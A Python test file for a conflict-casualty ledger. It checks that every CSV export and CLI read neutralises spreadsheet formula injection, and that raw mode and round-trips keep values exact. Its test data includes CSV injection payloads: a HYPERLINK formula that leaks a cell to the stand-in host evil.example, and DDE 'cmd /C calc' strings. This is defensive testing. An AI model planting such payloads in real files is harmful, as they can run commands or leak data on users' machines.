"""Spreadsheet formula injection (OWASP "CSV Injection") over every CSV the ledger writes.

A hostile world puts formula-looking text where users type it: a claimant's, a publisher's and an
incident's name, a document title, a quote, a note, a description. Every CSV writer (figures, tallies
in csv, hxl, ucdp and acled exports; `-f csv` reads; the import's rejects file) must write no text
cell a spreadsheet would run, must leave numbers alone, must write every value raw under
`--raw-csv` / LEDGER_CSV_RAW=1, and reading the CSV back with the ledger's reader restores the text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from conftest import day, make_ledger, reported
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from ledger import clock
from ledger.application.inputs import FigureInput
from ledger.cli.main import app as cli_app
from ledger.domain.values import Location, Period
from ledger.domain.vocabulary import LocationPrecision
from ledger.io.export import FORMATS, export
from ledger.io.formats.csv_text import FORMULA_TRIGGERS, neutralised, restored, write_csv
from ledger.io.imports import import_figures
from ledger.io.pipeline.records import csv_records
from ledger.ledger import Ledger

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
]
APOSTROPHES = ["'=already quoted", "'plain apostrophe", "''=two quotes"]  # real text that must survive exactly
TEXT = "Officials said " + " and ".join(f"{h} 5 were killed" for h in HOSTILE[:4]) + "."
QUOTE = f"{HOSTILE[0]} 5 were killed"


def _hostile_world(ledger: Ledger) -> None:
    app, entry = ledger.app, ledger.entry("test")
    with clock.pinned(day("2026-02-01T09:00:00")):
        app.register_claimant("evil", HOSTILE[0], "ngo", {"*": "independent"}, "B", entry, HOSTILE[2])
        app.register_claimant("other", HOSTILE[1], "ngo", {"*": "independent"}, "C", entry)
        app.register_publisher("pub", HOSTILE[3], "media", "https://example.org", entry)
        app.archive_document(entry, text=TEXT, title=HOSTILE[4], publisher="pub", published=reported("2026-02-05"), key="doc")
        app.register_incident(
            "inc", HOSTILE[5], Location("Pakistan", "Balochistan", precision=LocationPrecision.ADM1),
            Period(dt.date(2026, 1, 25), dt.date(2026, 2, 28)), entry,
        )  # fmt: skip
        app.register_incident(
            "inc2", HOSTILE[1], Location("Pakistan", "Balochistan", precision=LocationPrecision.ADM1),
            Period(dt.date(2026, 1, 25), dt.date(2026, 2, 28)), entry,
        )  # fmt: skip
    with clock.pinned(day("2026-02-06T09:00:00")):
        for n, note in enumerate([*HOSTILE, *APOSTROPHES]):
            ledger.record_figure(
                FigureInput(
                    incident="inc" if n % 2 else "inc2", claimant="evil" if n % 3 else "other", victim_status="civilian",
                    outcome=("killed", "injured", "missing")[n % 3], quantity=str(5 + n), reported=reported("2026-02-05"),
                    document="doc" if n == 0 else None, quote=QUOTE if n == 0 else None, note=note,
                )
            )  # fmt: skip


@pytest.fixture
def hostile(tmp_path: Path) -> Ledger:
    ledger = make_ledger(tmp_path / "home")
    _hostile_world(ledger)
    yield ledger
    ledger.close()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


class Tally:
    """Counts over every writer: cells written, and cells whose text started with a formula trigger."""

    cells = 0
    neutralised = 0


def _assert_safe(text: str, where: str, numeric: set[str] = frozenset()) -> int:
    """No cell starts with a trigger (a number excepted); returns how many were neutralised."""
    count = 0
    for row in _cells(text):
        for cell in row:
            Tally.cells += 1
            if cell.startswith(FORMULA_TRIGGERS) and cell not in numeric:
                raise AssertionError(f"{where}: cell {cell!r} would run as a formula")
            if cell.startswith("'") and restored(cell) != cell:
                count += 1
    Tally.neutralised += count
    return count


CSV_EXPORTS = [(what, fmt) for what, formats in FORMATS.items() for fmt in formats if fmt in ("csv", "hxl", "ucdp", "acled")]


@pytest.mark.parametrize(("what", "fmt"), CSV_EXPORTS)
def test_every_csv_export_neutralises_formula_cells(hostile: Ledger, tmp_path: Path, what: str, fmt: str) -> None:
    target = tmp_path / f"{what}.{fmt}.csv"
    export(hostile, what, target, fmt)
    text = target.read_text(encoding="utf-8")
    found = _assert_safe(text, f"export {what} {fmt}")
    assert found >= 2, f"export {what} {fmt}: the hostile text did not reach the file"
    assert json.loads(Path(str(target) + ".manifest.json").read_text())["csv_cells"] == "neutralised"
    # Raw, for machines: the very values, and the manifest says so (a rerun re-creates it exactly).
    raw_target = tmp_path / f"{what}.{fmt}.raw.csv"
    export(hostile, what, raw_target, fmt, raw_csv=True)
    raw_cells = {cell for row in _cells(raw_target.read_text(encoding="utf-8")) for cell in row}
    assert raw_cells & set(HOSTILE), f"export {what} {fmt} --raw-csv changed the values"
    assert json.loads(Path(str(raw_target) + ".manifest.json").read_text())["csv_cells"] == "raw"
    from ledger.io.manifest import verify

    for written in (target, raw_target):
        assert [c.name for c in verify(Path(str(written) + ".manifest.json"), hostile) if not c.ok] == []


def test_json_jsonl_and_parquet_keep_values_exact(hostile: Ledger, tmp_path: Path) -> None:
    payload = json.loads((lambda p: (export(hostile, "figures", p, "json"), p.read_text())[1])(tmp_path / "f.json"))
    assert {row["note"] for row in payload["rows"]} == {*HOSTILE, *APOSTROPHES}
    bundle = tmp_path / "b.jsonl"
    export(hostile, "figures", bundle, "jsonl")
    assert {*HOSTILE, *APOSTROPHES} <= {json.loads(line).get("note") for line in bundle.read_text().splitlines()}
    import duckdb

    parquet = tmp_path / "f.parquet"
    export(hostile, "figures", parquet, "parquet")
    notes = {r[0] for r in duckdb.sql(f"SELECT note FROM read_parquet('{parquet}')").fetchall()}
    assert notes == {*HOSTILE, *APOSTROPHES}


READS = [
    ["figures"], ["tally"], ["audit", "--incident", "inc2"], ["claimant", "list"], ["publisher", "list"],
    ["document", "list"], ["incident", "list"], ["query", "select note, 'x' as y, -5 as minus from figures"],
]  # fmt: skip


@pytest.mark.parametrize("read", READS, ids=lambda r: " ".join(r[:2]))
def test_every_csv_read_on_the_cli_neutralises_formula_cells(hostile: Ledger, read: list[str]) -> None:
    home = str(hostile.settings.home)
    runner = CliRunner()
    env = {"LEDGER_HOME": None, "LEDGER_STORE": None, "LEDGER_CSV_RAW": None}
    result = runner.invoke(cli_app, ["--home", home, *read, "-f", "csv"], env=env)
    assert result.exit_code == 0, result.output
    found = _assert_safe(result.stdout, " ".join(read), numeric={"-5"})
    assert found >= 1, f"{read}: no hostile text reached the read"
    for before, after, raw_env in ((["--raw-csv"], [], {}), ([], ["--raw-csv"], {}), ([], [], {"LEDGER_CSV_RAW": "1"})):
        raw = runner.invoke(cli_app, ["--home", home, *before, *read, "-f", "csv", *after], env={**env, **raw_env})
        assert raw.exit_code == 0, raw.output
        raw_cells = [c for row in _cells(raw.stdout) for c in row if c != "-5"]
        assert any(c.startswith(FORMULA_TRIGGERS) for c in raw_cells), f"{read} raw: values changed"


def test_a_negative_number_is_data_not_text() -> None:
    out = io.StringIO()
    write_csv(["n", "text"], [[-5, "-5"], [-1.5, "-1.5"]], out)
    assert _cells(out.getvalue())[1:] == [["-5", "'-5"], ["-1.5", "'-1.5"]]


def test_the_rejects_file_of_an_import_neutralises_the_values_it_quotes(hostile: Ledger, tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    out = io.StringIO()
    write_csv(["incident", "claimant", "victim_status", "outcome", "quantity", "reported"],
              [["inc", "evil", "civilian", "killed", "=1+1", "2026-02-05"]], out, raw=True)  # fmt: skip
    source.write_text(out.getvalue(), encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    runner = CliRunner()
    result = runner.invoke(
        cli_app, ["--home", str(hostile.settings.home), "import", "figures", str(source), "--rejects", str(rejects)],
        env={"LEDGER_HOME": None, "LEDGER_STORE": None, "LEDGER_ANALYST": "t"},
    )  # fmt: skip
    assert result.exit_code == 1, result.output
    assert _assert_safe(rejects.read_text(encoding="utf-8"), "rejects") >= 1


def test_an_exported_text_reads_back_as_written(tmp_path: Path) -> None:
    """The ledger's CSV reader strips the one quote the writer added, and nothing else."""
    texts = [*HOSTILE, *APOSTROPHES, "plain", "", "'", "''", "'-", "a=b", "#hash", "- list item"]
    path = tmp_path / "round.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        write_csv(["text", "other"], [[t, "x"] for t in texts], out)
    assert [r.fields["text"] for r in csv_records(path)] == texts


def test_a_figures_csv_imported_again_keeps_its_notes(hostile: Ledger, tmp_path: Path) -> None:
    """A ledger import CSV written by the ledger's writer, neutralised, records the original notes."""
    source = tmp_path / "figures.csv"
    columns = ["incident", "claimant", "victim_status", "outcome", "quantity", "reported", "note"]
    notes = [*HOSTILE, *APOSTROPHES]
    rows = [["inc", "evil", "civilian", "detained", str(n + 1), "2026-02-05", note] for n, note in enumerate(notes)]
    with source.open("w", encoding="utf-8", newline="") as out:
        write_csv(columns, rows, out)
    assert "'=HYPERLINK" in source.read_text(encoding="utf-8")
    import_figures(hostile, source)
    notes = {r["note"] for r in hostile.figures() if r["outcome"] == "detained"}
    assert notes == {*HOSTILE, *APOSTROPHES}


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r ax1#\"\n,"), max_size=12))
def test_neutralising_is_undone_exactly_for_any_text(text: str) -> None:
    written = neutralised(text)
    assert not written.startswith(FORMULA_TRIGGERS)
    assert restored(written) == text
